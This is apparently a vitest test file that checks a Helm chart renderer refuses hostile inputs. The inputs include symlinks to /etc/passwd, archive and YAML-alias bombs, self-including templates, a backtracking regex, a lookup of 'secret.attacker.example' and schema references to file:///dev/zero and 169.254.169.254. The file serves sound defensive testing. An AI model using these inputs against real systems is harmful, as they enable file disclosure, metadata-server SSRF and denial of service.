import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { cpuTime } from '../../support/cpu-time.ts';
import { chartYaml, gaps, objects, printed, rendered } from './chart/chart.ts';
import { packed } from './chart/tar.ts';

const chart = { 'chart/Chart.yaml': chartYaml('t') };

/** Of processor time. */
const enoughMs = 1_000;

/** What the chart's only gap says, and that it was said in time. */
function refusal(files: Readonly<Record<string, string | Uint8Array>>): string {
  let result = rendered(chart);
  const time = cpuTime(() => {
    result = rendered({ ...chart, ...files });
  });
  expect(time).toBeLessThan(enoughMs);
  expect(objects(result)).toEqual([]);
  expect(result.gaps).toHaveLength(1);
  return gaps(result)[0] ?? '';
}

test.each([
  { link: '-> ../../../etc/passwd', why: 'out of the repository' },
  { link: '-> /etc/hostname', why: 'to a place of the machine' },
  { link: '-> secret.txt', why: 'to itself' },
])('a link that leads $why is refused', ({ link }) => {
  expect(refusal({ 'chart/secret.txt': link })).toBe(
    "chart/secret.txt:1 symlink: 'secret.txt' leads out of the repository or in a circle",
  );
});

test('values.yaml as a link out of the repository is refused', () => {
  expect(refusal({ 'chart/values.yaml': '-> /etc/passwd' })).toContain(' symlink: ');
});

test('folders that hold themselves by links are refused', () => {
  expect(refusal({ 'chart/a/loop': '-> ..', 'chart/a/x': 'x' })).toContain("'a/loop' leads in a circle");
  const ring = { 'chart/a/to-b': '-> ../../b', 'b/to-a': '-> ../chart/a', 'b/x': 'x', 'chart/a/x': 'x' };
  expect(refusal(ring)).toContain('leads in a circle');
});

test('links that double what is read with every level are refused', () => {
  const levels = Array.from({ length: 9 }, (_, level) => [
    [`l${level}/a`, `-> ../l${level + 1}`],
    [`l${level}/b`, `-> ../l${level + 1}`],
    [`l${level}/c`, `-> ../l${level + 1}`],
    [`l${level}/d`, `-> ../l${level + 1}`],
  ]).flat();
  expect(refusal({ ...Object.fromEntries(levels), 'l9/x': 'x', 'chart/in': '-> ../l0' })).toContain(' limit: ');
});

test('a link inside of the repository is followed', () => {
  const files = { 'shared/x.txt': 'shared', 'chart/x.txt': '-> ../shared/x.txt', 'chart/all': '-> ../shared' };
  expect(printed('{{ list (.Files.Get "x.txt") (.Files.Get "all/x.txt") | toJson }}', files)).toEqual([
    'shared',
    'shared',
  ]);
});

test.each([
  { why: 'zeros', archive: () => gzipSync(Buffer.alloc(20_000_000)) },
  { why: 'a large file', archive: () => packed({ 'sub/x': Buffer.alloc(30_000_000) }) },
  {
    why: 'many files',
    archive: () => packed(Object.fromEntries(Array.from({ length: 10_050 }, (_, index) => [`sub/${index}`, '']))),
  },
])('an archive of $why is a limit', ({ archive }) => {
  expect(refusal({ 'chart/charts/sub.tgz': archive() })).toMatch(/ limit: .* than (is|are) read$/);
});

test('archives in archives share one limit', () => {
  let archive = packed({ 'sub/Chart.yaml': chartYaml('sub'), 'sub/x': Buffer.alloc(900_000) });
  for (let level = 0; level < 12; level += 1)
    archive = packed({ 'sub/Chart.yaml': chartYaml('sub'), 'sub/charts/sub.tgz': archive });
  expect(refusal({ 'chart/charts/sub.tgz': archive })).toContain(
    'subcharts nest deeper than the 10 levels that are read',
  );
});

test('a host name is looked up nowhere', () => {
  expect(printed('{{ getHostByName "secret.attacker.example" | quote }}', {})).toBe('');
});

test('a schema that refers to a device or a server asks neither', () => {
  for (const reference of ['file:///dev/zero', 'http://169.254.169.254/'])
    expect(gaps(rendered({ ...chart, 'chart/values.schema.json': JSON.stringify({ $ref: reference }) }))[0]).toContain(
      ` not-read: the schema refers to ${reference}`,
    );
});

test.each([
  { why: 'refers to itself', schema: '{"$ref":"#"}' },
  { why: 'refers to itself twice', schema: '{"allOf":[{"$ref":"#"},{"$ref":"#"}]}' },
  { why: 'nests deeply', schema: `${'{"not":'.repeat(20_000)}{}${'}'.repeat(20_000)}` },
])('a schema that $why ends', ({ schema }) => {
  expect(refusal({ 'chart/values.schema.json': schema })).toMatch(/takes more steps|deeper/);
});

test('a pattern that backtracks for ever elsewhere ends', () => {
  const files = {
    'chart/values.yaml': `a: "${'a'.repeat(5_000)}!"\n`,
    'chart/values.schema.json': '{"properties":{"a":{"pattern":"^(a+)+$"}}}',
  };
  expect(refusal(files)).toContain('does not match pattern');
});

const numbers = (count: number): string => `[${'1,'.repeat(count)}1]`;

test.each([
  { why: 'an endless range', template: '{{ range until 100000000 }}x{{ end }}' },
  { why: 'ranges in ranges', template: `${'{{ range until 1000 }}'.repeat(5)}x${'{{ end }}'.repeat(5)}` },
  {
    why: 'a template that includes itself',
    template: '{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}',
  },
  {
    why: 'a template that includes itself twice',
    template: '{{ define "a" }}{{ include "a" . }}{{ include "a" . }}{{ end }}{{ include "a" . }}',
  },
  { why: 'a text that doubles', template: `{{ $a := "xxxxxxxx" }}${'{{ $a = print $a $a }}'.repeat(40)}{{ $a }}` },
  { why: 'a huge output', template: `{{ range until 100000 }}${'x'.repeat(200)}\n{{ end }}` },
  { why: 'a long text', template: '{{ repeat 1000000000 "x" }}' },
  {
    why: 'a template in a value that makes itself',
    template: '{{ define "t" }}{{ tpl "{{ include \\"t\\" . }}" . }}{{ end }}{{ include "t" . }}',
  },
  { why: 'deep blocks', template: `${'{{ if true }}'.repeat(5_000)}x${'{{ end }}'.repeat(5_000)}` },
])('$why ends', ({ template }) => {
  expect(refusal({ 'chart/templates/x.yaml': template })).toMatch(/limit|execution error|template:|parse error/);
});

test('values whose aliases unfold to too much are refused', () => {
  const lines = Array.from({ length: 9 }, (_, level) =>
    level === 0 ? `a0: &a0 ${numbers(9)}` : `a${level}: &a${level} [${`*a${level - 1},`.repeat(10)}]`,
  );
  expect(refusal({ 'chart/values.yaml': `${lines.join('\n')}\n` })).toContain(' limit: ');
});

/** Folders in which each chart asks for the next one several times. */
const levels = (count: number, file: (level: number) => string): Readonly<Record<string, string>> =>
  Object.fromEntries(Array.from({ length: count }, (_, level) => [`l${level}/Chart.yaml`, file(level)]));

test('charts that ask for the next one twice are refused before they are millions', () => {
  const chain = levels(30, (level) =>
    chartYaml(
      `l${level}`,
      'dependencies:',
      ...['a', 'b'].map(
        (alias) => `- {name: l${level + 1}, alias: ${alias}, version: 0.x, repository: "file://../l${level + 1}"}`,
      ),
    ),
  );
  const first = chartYaml('t', 'dependencies: [{name: l0, version: 0.x, repository: "file://../l0"}]');
  expect(refusal({ ...chain, 'chart/Chart.yaml': first })).toContain(
    'it asks for more than the 500 charts that are read',
  );
});

test('aliases of aliases are refused before they are millions', () => {
  const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'];
  let folder = 'chart';
  const files: Record<string, string> = {};
  for (let level = 0; level < 9; level += 1) {
    const asks = names.map((alias) => `- {name: n${level + 1}, alias: ${alias}, version: 0.x}`);
    files[`${folder}/Chart.yaml`] = chartYaml(`n${level}`, 'dependencies:', ...asks);
    folder = `${folder}/charts/n${level + 1}`;
  }
  files[`${folder}/Chart.yaml`] = chartYaml('n9');
  expect(refusal(files)).toContain('its values, put together, are more than the 3000000 that are read');
});

test('a hundred thousand line breaks before no separator cost nothing', () => {
  let result = rendered(chart);
  const time = cpuTime(() => {
    result = rendered({ ...chart, 'chart/templates/x.yaml': `kind: X\n{{ repeat 100000 "\\n " }}` });
  });
  expect(time).toBeLessThan(enoughMs);
  expect(objects(result)).toEqual([{ kind: 'X' }]);
});
